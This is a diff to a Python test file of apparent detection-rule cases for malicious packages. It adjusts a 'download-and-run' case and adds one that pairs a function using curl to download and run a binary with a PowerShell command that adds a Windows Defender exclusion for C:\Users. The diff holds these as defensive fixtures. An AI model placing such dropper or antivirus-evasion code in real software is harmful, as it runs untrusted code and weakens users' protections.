@@ -10,7 +10,7 @@ from __future__ import annotations
 
 import base64
 
-from tests.rule_cases import BLOB, C, H, Negative, Positive, S, W, case_tests
+from tests.rule_cases import BLOB, C, H, M, Negative, Positive, S, W, case_tests
 
 # -- sample material ----------------------------------------------------------------------------
 
@@ -349,14 +349,33 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "pkg/__init__.py", 5, "import",
     ),
+    # A tool installer in plain sight: worth a look, not a verdict on its own.
     "download-and-run/curl-then-run-when-called": Positive(
-        "download-and-run", H,
+        "download-and-run", M,
         W({"pkg/tools.py": """
             import subprocess
             def fetch_tool():
                 subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
                 subprocess.run(["/tmp/tool", "--init"])
         """}),
+        "pkg/tools.py", 3, "call",
+    ),
+    # The same function in a release that also hides from defences: a dropper waiting to be called.
+    "download-and-run/curl-then-run-with-evasion-elsewhere": Positive(
+        "download-and-run", H,
+        W({
+            "pkg/tools.py": """
+            import subprocess
+            def fetch_tool():
+                subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
+                subprocess.run(["/tmp/tool", "--init"])
+            """,
+            "pkg/quiet.py": """
+            import subprocess
+            def quiet():
+                subprocess.run(["powershell", "Add-MpPreference", "-ExclusionPath", "C:\\Users"])
+            """,
+        }),
         "pkg/tools.py", 3, "call",
     ),
     "download-and-run/helpers-called-at-import": Positive(
